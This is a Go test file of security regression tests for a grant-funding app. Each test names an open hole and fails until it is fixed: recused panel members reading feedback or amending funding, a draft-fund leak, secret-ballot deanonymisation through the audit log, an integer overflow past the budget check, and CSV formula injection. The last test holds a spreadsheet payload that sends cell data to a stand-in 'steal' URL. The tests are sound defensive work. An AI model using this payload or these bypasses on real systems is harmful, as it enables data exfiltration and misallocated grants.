package app_test

// Attacks on ballots, results, decisions and grants that get through. Each
// test fails while the hole it names is open.

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/humblehq/humble/internal/apptest"
	"github.com/humblehq/humble/internal/authz"
	"github.com/humblehq/humble/internal/ballot"
	"github.com/humblehq/humble/internal/decision"
	"github.com/humblehq/humble/internal/org"
	"github.com/humblehq/humble/internal/panel"
	"github.com/humblehq/humble/internal/round"
)

// attackRound makes, in the decision cast's fund, a round in voting with
// three applications of 100,000 each (two of the applicant's, one of the
// other applicant's) in a budget of 250,000. The panel (chair, member,
// recused) declares no conflict on each, except recusals: name → index of
// the application they are recused from.
func (dc *decisionCast) attackRound(t *testing.T, key string, quorum int, secret bool, recusals map[string]int) [3]int64 {
	t.Helper()
	ctx := context.Background()
	env := dc.env
	id := func(sql string, args ...any) int64 {
		t.Helper()
		var id int64
		if err := env.DB.Raw(sql, args...).Scan(&id).Error; err != nil || id == 0 {
			t.Fatalf("%s: %v", sql, err)
		}
		return id
	}
	fund := mustID(dc.vars["{fund}"])
	applicant := id(`SELECT id FROM organisations WHERE name = 'Hillside Youth Club'`)
	other := id(`SELECT id FROM organisations WHERE name = 'Shared Tables'`)
	r := id(`INSERT INTO rounds (fund_id, name, budget_minor, applications_open_at, applications_close_at, voting_open_at,
		voting_close_at, method, rule, quorum, tie_break, state, secret_ballot) VALUES (?, ?, 250000,
		now() - interval '30 days', now() - interval '10 days', now() - interval '10 days', now() + interval '10 days',
		'approval', 'mes_cost_add1_greedy', ?, 'lower_cost', 'review', ?) RETURNING id`, fund, key+" round", quorum, secret)
	var apps [3]int64
	for i, o := range []int64{applicant, applicant, other} {
		apps[i] = id(`INSERT INTO applications (round_id, fund_id, organisation_id, title, explore, with_whom, how_learn, amount_minor)
			VALUES (?, ?, ?, ?, 'x', 'y', 'z', 100000) RETURNING id`, r, fund, o, fmt.Sprintf("%s idea %d", key, i+1))
		dc.vars[fmt.Sprintf("{%s%d}", key, i+1)] = fmt.Sprint(apps[i])
	}
	for _, name := range []string{"chair", "member", "recused"} {
		var entries []panel.DeclarationEntry
		for i, a := range apps {
			e := panel.DeclarationEntry{ApplicationID: a, Kind: panel.NoConflict}
			if j, ok := recusals[name]; ok && j == i {
				e = panel.DeclarationEntry{ApplicationID: a, Kind: panel.Recused, Note: "My sister runs it."}
			}
			entries = append(entries, e)
		}
		if _, err := env.Svc.Panels.Declare(ctx, dc.people[name].ID, r, panel.DeclarationSet{Declarations: entries}); err != nil {
			t.Fatal(err)
		}
	}
	if err := env.DB.Exec(`UPDATE rounds SET state = 'voting' WHERE id = ?`, r).Error; err != nil {
		t.Fatal(err)
	}
	dc.vars["{"+key+"}"] = fmt.Sprint(r)
	return apps
}

// feedbackOf returns the feedback on application app in a decision as the
// API returned it.
func feedbackOf(t *testing.T, r apptest.Response, app int64) string {
	t.Helper()
	var d decision.Decision
	r.JSON(t, &d)
	for _, a := range d.Applications {
		if a.ApplicationID == app {
			return a.Feedback
		}
	}
	t.Fatalf("application %d is not in the decision: %s", app, r.Body)
	return ""
}

// HOLE: a panel member recused from an application reads the feedback the
// panel writes for its applicant through the API, before and after the
// decision is final, although the pages hide it from them (the decision
// page shows "written" only; the application page shows the title only).
func TestAttackRecusedMemberReadsFeedbackThroughAPI(t *testing.T) {
	dc := newDecisionCast(t)
	ctx := context.Background()
	closed1 := mustID(dc.vars["{closed1}"])
	const secret = "Only for Hillside: the budget line for the minibus worried us."
	if _, err := dc.env.Svc.Decisions.WriteWords(ctx, dc.people["chair"].ID, mustID(dc.vars["{closed}"]), closed1,
		decision.Words{Rationale: "Backed by both.", Feedback: secret}); err != nil {
		t.Fatal(err)
	}
	// The page keeps it from them…
	if page := dc.browsers["recused"].Get(t, dc.expand("/rounds/{closed}/decision")); page.Status != 200 || strings.Contains(string(page.Body), secret) {
		t.Fatalf("decision page as recused: %d (the page should be readable and hide the feedback)", page.Status)
	}
	// …the API hands it over.
	r := dc.env.Do(t, "GET", dc.expand("/api/v1/rounds/{closed}/decision"), dc.tokens["recused"], nil)
	if r.Status != 200 {
		t.Fatalf("draft decision as recused: %d %s", r.Status, r.Body)
	}
	if fb := feedbackOf(t, r, closed1); fb != "" {
		t.Errorf("GET /api/v1/rounds/{closed}/decision: a member recused from application %d reads its draft feedback %q", closed1, fb)
	}
	decided1 := mustID(dc.vars["{decided1}"])
	r = dc.env.Do(t, "GET", dc.expand("/api/v1/rounds/{decided}/decision"), dc.tokens["recused"], nil)
	if fb := feedbackOf(t, r, decided1); fb != "" {
		t.Errorf("GET /api/v1/rounds/{decided}/decision: a member recused from application %d reads its feedback %q", decided1, fb)
	}
	if page := dc.browsers["recused"].Get(t, dc.expand("/applications/{decided1}")); strings.Contains(string(page.Body), "Words for you.") {
		t.Errorf("application page as recused shows the feedback")
	}
	r = dc.env.Do(t, "GET", dc.expand("/api/v1/applications/{decided1}/decision"), dc.tokens["recused"], nil)
	if strings.Contains(string(r.Body), "Words for you.") {
		t.Errorf("GET /api/v1/applications/{decided1}/decision: a member recused from it reads its feedback (status %d): %.300s", r.Status, r.Body)
	}
}

// HOLE: a panel chair recused from an application (a conflict of
// interest: "my sister runs it") amends the decision to fund it. Recusal
// keeps them off its ballot and from writing about it, but not from
// deciding its money.
func TestAttackRecusedChairAmendsDecisionOnTheirApplication(t *testing.T) {
	dc := newDecisionCast(t)
	ctx := context.Background()
	apps := dc.attackRound(t, "conflict", 1, false, map[string]int{"chair": 0})
	r := mustID(dc.vars["{conflict}"])
	// The member backs the other two ideas, which leave too little for the
	// chair's sister's.
	if _, _, err := dc.env.Svc.Ballots.Cast(ctx, dc.people["member"].ID, r, ballot.Contents{Approvals: []int64{apps[1], apps[2]}}); err != nil {
		t.Fatal(err)
	}
	if _, err := dc.env.Svc.Rounds.Transition(ctx, dc.people["chair"].ID, r, round.Closed); err != nil {
		t.Fatal(err)
	}
	res, err := dc.env.Svc.Decisions.Result(ctx, r)
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range res.Outcome.Funded {
		if id == apps[0] {
			t.Fatalf("setup: the rule already funds application %d: %v", apps[0], res.Outcome.Funded)
		}
	}
	// The chair swaps their sister's idea in for the member's choice.
	body := fmt.Sprintf(`{"funded":[{"application_id":%d,"amount_minor":100000},{"application_id":%d,"amount_minor":100000}],
		"amendment_reason":"We felt it deserved a chance."}`, apps[2], apps[0])
	resp := dc.env.Do(t, "PUT", fmt.Sprintf("/api/v1/rounds/%d/decision", r), dc.tokens["chair"], body)
	if resp.Status == 200 {
		t.Errorf("a chair recused from application %d amended the decision to fund it: %d %.300s", apps[0], resp.Status, resp.Body)
	}
	// The page's amendment form does the same.
	form := map[string][]string{"mode": {"amended"}, "amendment_reason": {"We felt it deserved a chance."},
		fmt.Sprintf("fund-%d", apps[2]): {"yes"}, fmt.Sprintf("amount-%d", apps[2]): {"1000"},
		fmt.Sprintf("fund-%d", apps[0]): {"yes"}, fmt.Sprintf("amount-%d", apps[0]): {"1000"}}
	page := dc.browsers["chair"].Post(t, fmt.Sprintf("/rounds/%d/decision", r), form)
	if page.Status == 303 {
		t.Errorf("the decision page let a chair recused from application %d amend the decision to fund it", apps[0])
	}
}

// HOLE: the grants of a draft fund's id answer 200 (an empty list) to
// anyone, where the fund itself answers 404: a stranger learns which draft
// funds exist. Every other fund route hides a draft fund.
func TestAttackDraftFundExistsThroughGrantList(t *testing.T) {
	env := apptest.New(t)
	funder := env.CreateOrg(t, "Quiet Trust", org.Funder)
	var draft int64
	if err := env.DB.Raw(`INSERT INTO funds (organisation_id, name, purpose_flourishing, purpose_whom, purpose_where, budget_minor,
		currency, system_scale, status) VALUES (?, 'Not yet announced', 'belonging', 'young people', 'Riverside', 100000,
		'GBP', 'place', 'draft') RETURNING id`, funder.ID).Scan(&draft).Error; err != nil {
		t.Fatal(err)
	}
	stranger := env.CreateUser(t, "stranger")
	for who, token := range map[string]string{"anonymous": "", "user": env.Token(t, stranger)} {
		f := env.Do(t, "GET", fmt.Sprintf("/api/v1/funds/%d", draft), token, nil)
		g := env.Do(t, "GET", fmt.Sprintf("/api/v1/funds/%d/grants", draft), token, nil)
		if f.Status == 404 && g.Status != 404 {
			t.Errorf("%s: GET /api/v1/funds/{draft} is 404 but /api/v1/funds/{draft}/grants is %d: the draft fund's existence leaks", who, g.Status)
		}
	}
}

// HOLE: in a secret round whose result rests on one ballot (quorum 1, or
// computed below the quorum with a reason), a steward learns exactly how a
// named member voted: the fund's audit log names who cast a ballot in the
// round, and the result's supporters per application are that ballot.
func TestAttackSecretBallotSoleVoterNamedByAuditLog(t *testing.T) {
	dc := newDecisionCast(t)
	ctx := context.Background()
	apps := dc.attackRound(t, "lonely", 1, true, nil)
	r := mustID(dc.vars["{lonely}"])
	if _, _, err := dc.env.Svc.Ballots.Cast(ctx, dc.people["member"].ID, r, ballot.Contents{Approvals: []int64{apps[2]}}); err != nil {
		t.Fatal(err)
	}
	if _, err := dc.env.Svc.Rounds.Transition(ctx, dc.people["chair"].ID, r, round.Closed); err != nil {
		t.Fatal(err)
	}
	// What the steward reads: the audit log of their fund…
	var log struct {
		Items []struct {
			ActorID *int64          `json:"actor_id"`
			Action  string          `json:"action"`
			Changes json.RawMessage `json:"changes"`
		}
	}
	a := dc.env.Do(t, "GET", dc.expand("/api/v1/audit-events?fund_id={fund}&limit=200"), dc.tokens["steward"], nil)
	if a.Status != 200 {
		t.Fatalf("audit log as steward: %d %s", a.Status, a.Body)
	}
	a.JSON(t, &log)
	var voters []int64
	for _, e := range log.Items {
		var ch struct {
			RoundID int64 `json:"round_id"`
		}
		_ = json.Unmarshal(e.Changes, &ch)
		if strings.HasPrefix(e.Action, "ballot.") && ch.RoundID == r && e.ActorID != nil {
			voters = append(voters, *e.ActorID)
		}
	}
	// …and the result.
	var res decision.Result
	dc.env.Do(t, "GET", dc.expand("/api/v1/rounds/{lonely}/result"), dc.tokens["steward"], nil).JSON(t, &res)
	var approved []int64
	for _, e := range res.Outcome.Applications {
		if e.Supporters > 0 {
			approved = append(approved, e.ApplicationID)
		}
	}
	if len(voters) == 1 && res.Ballots == 1 {
		t.Errorf("secret round %d: the steward reads in the audit log that user %d (the member is %d) cast the only ballot, "+
			"and in the result that it approved %v: who voted how", r, voters[0], dc.people["member"].ID, approved)
	}
}

// HOLE: an amended decision's amounts are added up in int64 without a
// check, so two large amounts wrap around below zero and pass the budget
// check: the decision (and its grants) gives more than the round's
// budget. Funds' budgets have no upper bound, so such amounts are
// accepted as applications.
func TestAttackAmendedFundingOverflowsBudgetCheck(t *testing.T) {
	dc := newDecisionCast(t)
	ctx := context.Background()
	env := dc.env
	id := func(sql string, args ...any) int64 {
		t.Helper()
		var id int64
		if err := env.DB.Raw(sql, args...).Scan(&id).Error; err != nil || id == 0 {
			t.Fatalf("%s: %v", sql, err)
		}
		return id
	}
	const budget = int64(9_000_000_000_000_000_000)
	funder := id(`SELECT id FROM organisations WHERE name = 'Riverside Trust'`)
	applicant := id(`SELECT id FROM organisations WHERE name = 'Hillside Youth Club'`)
	fund := id(`INSERT INTO funds (organisation_id, name, purpose_flourishing, purpose_whom, purpose_where, budget_minor,
		currency, system_scale, status) VALUES (?, 'Big Fund', 'belonging', 'young people', 'Riverside', ?,
		'GBP', 'place', 'open') RETURNING id`, funder, budget)
	env.Grant(t, dc.people["steward"], authz.Steward, authz.FundDomain(fund))
	if _, err := env.Svc.Panels.AddMember(ctx, dc.people["steward"].ID, fund, panel.NewMember{UserID: dc.people["chair"].ID, Role: panel.Chair, ChosenBy: "lottery"}); err != nil {
		t.Fatal(err)
	}
	waitForRole(t, env, dc.people["chair"].ID, authz.PanelChair, fund)
	r := id(`INSERT INTO rounds (fund_id, name, budget_minor, applications_open_at, applications_close_at, voting_open_at,
		voting_close_at, method, rule, quorum, tie_break, state) VALUES (?, 'big round', ?,
		now() - interval '30 days', now() - interval '10 days', now() - interval '10 days', now() + interval '10 days',
		'approval', 'mes_cost_add1_greedy', 1, 'lower_cost', 'review') RETURNING id`, fund, budget)
	var apps []int64
	var entries []panel.DeclarationEntry
	for i := range 2 {
		a := id(`INSERT INTO applications (round_id, fund_id, organisation_id, title, explore, with_whom, how_learn, amount_minor)
			VALUES (?, ?, ?, ?, 'x', 'y', 'z', ?) RETURNING id`, r, fund, applicant, fmt.Sprintf("big idea %d", i+1), budget)
		apps = append(apps, a)
		entries = append(entries, panel.DeclarationEntry{ApplicationID: a, Kind: panel.NoConflict})
	}
	if _, err := env.Svc.Panels.Declare(ctx, dc.people["chair"].ID, r, panel.DeclarationSet{Declarations: entries}); err != nil {
		t.Fatal(err)
	}
	if err := env.DB.Exec(`UPDATE rounds SET state = 'voting' WHERE id = ?`, r).Error; err != nil {
		t.Fatal(err)
	}
	if _, _, err := env.Svc.Ballots.Cast(ctx, dc.people["chair"].ID, r, ballot.Contents{Approvals: apps}); err != nil {
		t.Fatal(err)
	}
	if _, err := env.Svc.Rounds.Transition(ctx, dc.people["chair"].ID, r, round.Closed); err != nil {
		t.Fatal(err)
	}
	const each = int64(5_000_000_000_000_000_000)
	body := fmt.Sprintf(`{"funded":[{"application_id":%d,"amount_minor":%d},{"application_id":%d,"amount_minor":%d}],
		"amendment_reason":"Both, in part."}`, apps[0], each, apps[1], each)
	resp := env.Do(t, "PUT", fmt.Sprintf("/api/v1/rounds/%d/decision", r), dc.tokens["chair"], body)
	if resp.Status == 200 {
		t.Errorf("an amended decision giving 2 × %d from a budget of %d was recorded: %.300s", each, budget, resp.Body)
	}
}

// HOLE: a panel member who never declared on an application writes the
// panel's rationale and feedback on it, and reads every application's
// feedback. Declarations are made only in review and voting, so a member
// who joins the panel after voting closes can never declare, and nothing
// asks them to: here the new member belongs to the applying organisation
// and writes the words on its own application.
func TestAttackUndeclaredMemberWritesWordsOnOwnApplication(t *testing.T) {
	dc := newDecisionCast(t)
	ctx := context.Background()
	fund := mustID(dc.vars["{fund}"])
	applicant := dc.people["applicant"]
	if _, err := dc.env.Svc.Panels.AddMember(ctx, dc.people["steward"].ID, fund,
		panel.NewMember{UserID: applicant.ID, Role: panel.Member, ChosenBy: "lottery"}); err != nil {
		t.Fatal(err)
	}
	waitForRole(t, dc.env, applicant.ID, authz.PanelMember, fund)
	// They cannot declare any more: the round has closed.
	d := dc.env.Do(t, "PUT", dc.expand("/api/v1/rounds/{closed}/declarations"), dc.tokens["applicant"],
		dc.expand(`{"declarations":[{"application_id":{closed1},"kind":"recused","note":"It is ours."}]}`))
	t.Logf("declaring after close: %d", d.Status)
	w := dc.env.Do(t, "PUT", dc.expand("/api/v1/rounds/{closed}/decision/applications/{closed1}"), dc.tokens["applicant"],
		`{"rationale":"An outstanding idea that clearly deserves every penny.","feedback":"Brilliant work."}`)
	if w.Status == 200 {
		t.Errorf("a panel member with no declaration on application %s (their own organisation's) wrote its rationale and feedback", dc.vars["{closed1}"])
	}
}

// HOLE: the public decision CSV writes applicants' titles (and the panel's
// rationale) as they are, so a title such as =HYPERLINK(…) runs as a
// formula in the spreadsheet of whoever opens the download (CSV/formula
// injection).
func TestAttackDecisionCSVFormulaInjection(t *testing.T) {
	dc := newDecisionCast(t)
	const title = `=HYPERLINK("https://example.com/steal?"&A1,"See our plan")`
	if err := dc.env.DB.Exec(`UPDATE applications SET title = ? WHERE id = ?`, title, mustID(dc.vars["{decided1}"])).Error; err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{"/api/v1/rounds/{decided}/decision.csv", "/rounds/{decided}/results.csv"} {
		r := dc.env.Do(t, "GET", dc.expand(path), "", nil)
		if r.Status != 200 {
			t.Fatalf("%s: %d", path, r.Status)
		}
		for _, line := range strings.Split(string(r.Body), "\n") {
			for _, cell := range strings.Split(line, ",") {
				cell = strings.TrimPrefix(cell, `"`)
				if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") {
					t.Errorf("%s: a cell starts with a formula: %.80s", path, cell)
				}
			}
		}
	}
}
